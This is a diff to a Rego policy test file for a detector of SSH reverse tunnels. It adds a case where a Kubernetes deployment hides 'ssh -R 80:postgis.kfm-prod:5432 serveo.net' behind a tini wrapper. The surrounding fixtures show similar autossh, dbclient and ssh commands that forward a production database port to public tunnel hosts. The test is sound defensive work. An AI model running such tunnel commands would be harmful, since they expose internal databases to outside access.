@@ -300,6 +300,8 @@ test_ssh_remote_forward_to_a_store if {
 	found(ssh(["/usr/bin/autossh", "-M", "0", "-NR", "0.0.0.0:80:postgis.kfm-prod.svc.cluster.local:5432", "tunnel@a.pinggy.io"])) == {[4, command(4)]}
 	found(ssh(["dbclient", "-R80:postgis.kfm-prod:5432", "nokey@localhost.run"])) == {[4, command(1)]}
 	found(ssh(["ssh", "-fNTR5432:postgis.kfm-prod:5432", "x@example.com"])) == {[4, command(1)]}
+	behind_init := deployment("edge", {"name": "t", "image": "docker.io/library/alpine:3.20", "command": ["tini", "--"], "args": ["ssh", "-R", "80:postgis.kfm-prod:5432", "serveo.net"]})
+	found(behind_init) == {[4, arg(2)]}
 	same_ns := deployment("kfm-prod", {"name": "t", "image": "docker.io/library/alpine:3.20", "command": ["ssh", "-R", "80:postgis:5432", "serveo.net"]})
 	found(same_ns) == {[4, command(2)]}
 }
